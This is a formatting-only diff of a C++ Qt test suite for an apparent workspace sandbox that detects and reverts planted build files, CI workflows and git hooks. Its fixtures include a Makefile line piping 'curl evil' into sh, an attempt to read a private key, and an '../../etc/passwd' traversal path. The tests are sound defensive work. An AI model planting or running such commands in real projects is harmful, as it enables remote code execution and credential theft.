@@ -83,38 +83,43 @@ void TestWorkspaceReview::plantedHooksAndConfigAreRefused()
 
 void TestWorkspaceReview::reviewListsWhatTheHostRunsWithADiff()
 {
-    const Finished run = runIn(QStringLiteral("planter"), QStringLiteral("printf 'all:\\n\\tcurl evil | sh\\n' > Makefile; "
-                                                                          "mkdir -p .github/workflows; "
-                                                                          "echo 'on: push' > .github/workflows/ci.yml"));
+    const Finished run =
+        runIn(QStringLiteral("planter"), QStringLiteral("printf 'all:\\n\\tcurl evil | sh\\n' > Makefile; "
+                                                        "mkdir -p .github/workflows; "
+                                                        "echo 'on: push' > .github/workflows/ci.yml"));
     QVERIFY2(run.exitCode == 0, qPrintable(run.err));
     const Finished review = m_fixture->paddock({QStringLiteral("review"), QStringLiteral("planter")});
     QVERIFY2(review.exitCode == 0, qPrintable(review.err));
     QVERIFY2(review.out.contains(QLatin1String("modified Makefile (build file)")), qPrintable(review.out));
     QVERIFY2(review.out.contains(QLatin1String("+\tcurl evil | sh")), qPrintable(review.out));
     QVERIFY2(review.out.contains(QLatin1String("-\techo build")), qPrintable(review.out));
-    QVERIFY2(review.out.contains(QLatin1String("added .github/workflows/ci.yml (CI workflow)")), qPrintable(review.out));
+    QVERIFY2(review.out.contains(QLatin1String("added .github/workflows/ci.yml (CI workflow)")),
+             qPrintable(review.out));
     QVERIFY2(review.out.contains(QLatin1String("added .envrc (direnv script)")), qPrintable(review.out));
-    const Finished json = m_fixture->paddock({QStringLiteral("review"), QStringLiteral("planter"), QStringLiteral("--json")});
+    const Finished json =
+        m_fixture->paddock({QStringLiteral("review"), QStringLiteral("planter"), QStringLiteral("--json")});
     QCOMPARE(QJsonDocument::fromJson(json.out.toUtf8()).array().size(), 3);
 }
 
 void TestWorkspaceReview::revertPutsFilesBack()
 {
-    for (const QString &path : {QStringLiteral("Makefile"), QStringLiteral(".github/workflows/ci.yml"),
-                                QStringLiteral(".envrc")}) {
+    for (const QString &path :
+         {QStringLiteral("Makefile"), QStringLiteral(".github/workflows/ci.yml"), QStringLiteral(".envrc")}) {
         const Finished revert =
             m_fixture->paddock({QStringLiteral("review"), QStringLiteral("planter"), QStringLiteral("--revert"), path});
         QVERIFY2(revert.exitCode == 0, qPrintable(revert.err));
     }
     QCOMPARE(read(QStringLiteral("Makefile")), QStringLiteral("all:\n\techo build\n"));
     QVERIFY(!QFileInfo::exists(m_repo + QStringLiteral("/.envrc")));
-    QCOMPARE(git({QStringLiteral("status"), QStringLiteral("--porcelain"), QStringLiteral("--untracked-files=no")}).out.trimmed(),
+    QCOMPARE(git({QStringLiteral("status"), QStringLiteral("--porcelain"), QStringLiteral("--untracked-files=no")})
+                 .out.trimmed(),
              QString());
     const Finished review = m_fixture->paddock({QStringLiteral("review"), QStringLiteral("planter")});
     QVERIFY2(review.out.startsWith(QLatin1String("Nothing your tools run or trust changed")), qPrintable(review.out));
     // A path that did not change, or one outside the reviewed set, is refused.
-    QCOMPARE(m_fixture->paddock({QStringLiteral("review"), QStringLiteral("planter"), QStringLiteral("--revert"),
-                                 QStringLiteral("../../etc/passwd")})
+    QCOMPARE(m_fixture
+                 ->paddock({QStringLiteral("review"), QStringLiteral("planter"), QStringLiteral("--revert"),
+                            QStringLiteral("../../etc/passwd")})
                  .exitCode,
              1);
     QCOMPARE(m_fixture->paddock({QStringLiteral("rm"), QStringLiteral("-f"), QStringLiteral("planter")}).exitCode, 0);
@@ -132,7 +137,8 @@ void TestWorkspaceReview::aLinkedFolderIsNotMountedThrough()
     secret.close();
     QVERIFY(QDir(m_repo + QStringLiteral("/.vscode")).removeRecursively());
     QVERIFY(QFile::link(secrets, m_repo + QStringLiteral("/.vscode")));
-    const Finished run = runIn(QStringLiteral("linked"), QStringLiteral("cat .vscode/id_rsa 2>/dev/null || echo unreadable"));
+    const Finished run =
+        runIn(QStringLiteral("linked"), QStringLiteral("cat .vscode/id_rsa 2>/dev/null || echo unreadable"));
     QVERIFY2(run.exitCode == 0, qPrintable(run.err));
     QCOMPARE(run.out.trimmed(), QStringLiteral("unreadable"));
     QVERIFY(QFile::remove(m_repo + QStringLiteral("/.vscode")));
@@ -147,8 +153,9 @@ void TestWorkspaceReview::unprotectedSaysSoAndReviewStillSees()
     QVERIFY2(run.err.contains(QLatin1String("may change .git/hooks")), qPrintable(run.err));
     const Finished review = m_fixture->paddock({QStringLiteral("review"), QStringLiteral("open")});
     QVERIFY2(review.out.contains(QLatin1String("added .git/hooks/pre-push (git hook)")), qPrintable(review.out));
-    QCOMPARE(m_fixture->paddock({QStringLiteral("review"), QStringLiteral("open"), QStringLiteral("--revert"),
-                                 QStringLiteral(".git/hooks/pre-push")})
+    QCOMPARE(m_fixture
+                 ->paddock({QStringLiteral("review"), QStringLiteral("open"), QStringLiteral("--revert"),
+                            QStringLiteral(".git/hooks/pre-push")})
                  .exitCode,
              0);
     QVERIFY(!QFileInfo::exists(m_repo + QStringLiteral("/.git/hooks/pre-push")));
